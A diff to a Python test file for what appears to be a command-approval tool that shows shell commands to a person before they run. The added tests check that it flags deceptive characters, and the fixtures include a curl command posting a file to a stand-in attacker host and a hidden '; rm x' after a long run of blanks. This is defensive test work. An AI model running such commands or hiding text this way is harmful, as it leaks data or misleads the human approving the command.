@@ -16,7 +16,7 @@ from capfence_sh.world import DictWorld
 EXECUTE = Effect(cap.EXECUTE, "", "", NO_TARGET, False, "")
 RESTART = Effect(cap.MUTATION, "", "nginx", RESOURCE, False, "restart nginx")
 RULE = Rule("policies/devops.yaml", 31, "restarts", "A person decides.", "")
-LABELS = ("command", "runs", "in", "as", "because", "rule")
+LABELS = ("command", "runs", "beware", "in", "as", "because", "rule")
 
 
 def request(**facts):
@@ -65,6 +65,20 @@ def test_a_long_argv_is_shown_one_word_per_line():
     assert "  command   curl\n            -d\n            '@a b'\n            https://evil.example/xxx" in shown
 
 
+@pytest.mark.parametrize(
+    "text, warning",
+    [
+        ("ls \u202e x", "text direction control: \\u{202e}"),
+        ("ls\u200b /", "invisible character"),
+        ("ls" + " " * 90 + "; rm x", "long run of blanks"),
+        ("ls \x1b[2J", "control character: \\e"),
+    ],
+)
+def test_deceiving_characters_are_named(text, warning):
+    assert f"  beware    {warning}" in question((command("ls"),), text)
+    assert "beware" not in question((command("ls"),), "ls -l \u00e9t\u00e9")
+
+
 def test_actor_and_claim_are_named():
     assert "amy (uid 1000) on web1, for release-bot" in question((command("ls"),), "ls", actor="release-bot")
     assert "claimed to be for bot\\x1b" in question((command("ls"),), "ls", claimed_actor="bot\x1b[2J").replace("\\e", "\\x1b")
@@ -111,7 +125,7 @@ def test_no_text_reaches_the_column_of_the_labels(text, width):
     assert shown.replace("\n", "").isascii() and shown.replace("\n", "").isprintable()
     body = shown.partition("approval needed\n\n")[2].rpartition("\n\nTo run it, type kqzp and Enter.")[0]
     starts = [line[:12] for line in body.split("\n")]
-    assert [start.strip() for start in starts if start.strip()] == list(LABELS)
+    assert [start.strip() for start in starts if start.strip()] in (list(LABELS), [label for label in LABELS if label != "beware"])
     assert all(len(line) <= width for line in body.split("\n"))
 
 
